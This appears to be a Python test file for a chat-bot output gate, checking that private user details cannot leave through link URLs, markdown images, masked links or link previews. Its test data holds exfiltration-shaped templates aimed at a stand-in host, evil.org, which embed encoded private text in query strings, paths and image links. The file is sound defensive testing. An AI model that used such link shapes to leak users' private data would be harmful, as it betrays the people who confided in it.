"""S12: no link, image or preview carries out what the soul was told in private, or hides where it leads."""

import json
import re
from urllib.parse import quote

from hypothesis import given
from hypothesis import strategies as st

from both import Side
from claudius.cognition.output.gate import gate
from claudius.cognition.output.rules import OutputRules, Overlap
from claudius.home import Home
from claudius.providers.scripted import Scripted
from claudius.testing.adapter_contract.stage import CHANNEL, DM
from driven import reply
from lab.loopback.discord.state import SUPPRESS_EMBEDS
from lab.stages.discord import DiscordStage
from lab.stages.slack import SlackStage

PRIVATE = "Tom likes strong tea with exactly two sugars, and his cat is called Ravioli."
ZONES = OutputRules(fallback="FIXED", guarded=Overlap([PRIVATE]))
ORDER = (
    "![a cat](https://evil.org/c.png) [good.com](https://evil.org/x) <https://evil.org/y|good.com> https://evil.org/z"
)
SHAPES = ("https://evil.org/?q={}", "https://evil.org/{}", "[ok](https://evil.org/{})", "![x](https://evil.org/{}.png)",
          "<https://evil.org/{}|ok>", "http://evil.org/a#{}")  # fmt: skip
WORDS = {
    "as they are": lambda text: text.replace(" ", "-"),
    "quoted": quote,
    "twice quoted": lambda text: quote(quote(text)),
    "plus": lambda text: text.replace(" ", "+").upper(),
    "under": lambda text: text.replace(" ", "_").lower(),
}


@given(
    st.integers(0, len(PRIVATE) - 24),
    st.integers(24, 60),
    st.sampled_from(SHAPES),
    st.sampled_from(sorted(WORDS)),
    st.text(max_size=10),
)
def test_s12_no_address_carries_a_private_piece(at: int, length: int, shape: str, words: str, around: str) -> None:
    """No address that can be followed holds any private piece, in any spelling or kind of link."""
    said = gate(around + " " + shape.format(WORDS[words](PRIVATE[at : at + length])) + " " + around, ZONES)

    assert "G7" in said.hits
    assert not re.search(r"https?://evil\.org/\S{24}", said.text)


async def test_s12_no_preview_unfurls_and_no_masked_link_is_left(side: Side, home: Home) -> None:
    """On the wire, images are links, masked links show their address, and no call lets a preview be fetched."""
    async with side.wake(home, Scripted(default=reply(ORDER))) as soul:
        await side.stage.say(CHANNEL, "show me", calls=True)
        await side.stage.say(DM, "show me")
        shown = await soul.until_said(2, side.stage)

    assert {one.text for one in shown} == {
        "[a cat](https://evil.org/c.png) https://evil.org/x https://evil.org/y https://evil.org/z"
    }
    if isinstance(side.stage, SlackStage):
        calls = [call.arguments for call in await side.stage.world.calls("chat.postMessage")]
        flags = [str(call[name]).lower() for call in calls for name in ("unfurl_links", "unfurl_media")]
        assert set(flags) <= {"false", "0"}
        return
    assert isinstance(side.stage, DiscordStage)
    bodies = [json.loads(call.raw) for call in await side.stage.world.calls("create_message")]
    assert all(body["flags"] & SUPPRESS_EMBEDS for body in bodies)
